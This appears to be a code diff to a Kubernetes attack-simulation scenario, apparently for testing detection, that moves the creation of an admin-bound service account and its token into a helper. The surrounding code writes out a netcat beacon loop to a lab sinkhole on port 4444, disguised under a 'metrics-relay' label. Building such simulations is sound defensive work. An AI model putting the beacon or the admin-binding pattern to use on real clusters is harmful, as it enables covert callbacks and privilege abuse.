@@ -7,6 +7,7 @@ import secrets
 
 from lab import Lab
 from scenarios.api import Expectation, Kind, Scenario
+from scenarios.kubernetes._accounts import bound_account
 
 NAMESPACE = "tooling"
 
@@ -32,16 +33,7 @@ class DeployerNamesake(Scenario):
     )
 
     def detonate(self, lab: Lab) -> None:
-        lab.apply({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": NAMESPACE}})
-        lab.apply({"apiVersion": "v1", "kind": "ServiceAccount",
-                   "metadata": {"name": "deployer", "namespace": NAMESPACE}})
-        lab.apply({
-            "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding",
-            "metadata": {"name": lab.name("tooling-deployer")},
-            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "admin"},
-            "subjects": [{"kind": "ServiceAccount", "name": "deployer", "namespace": NAMESPACE}],
-        })
-        token = lab.kubectl("create", "token", "deployer", "-n", NAMESPACE, "--duration=10m").output.strip()
+        token = bound_account(lab, NAMESPACE, "deployer", lab.name("tooling-deployer"))
         marker = secrets.token_hex(6)
         beacon = f"while true; do echo {marker} | nc -w 2 -q 1 {lab.sinkhole.address} 4444; sleep 2; done"
         labels = {"app.kubernetes.io/name": "metrics-relay"}
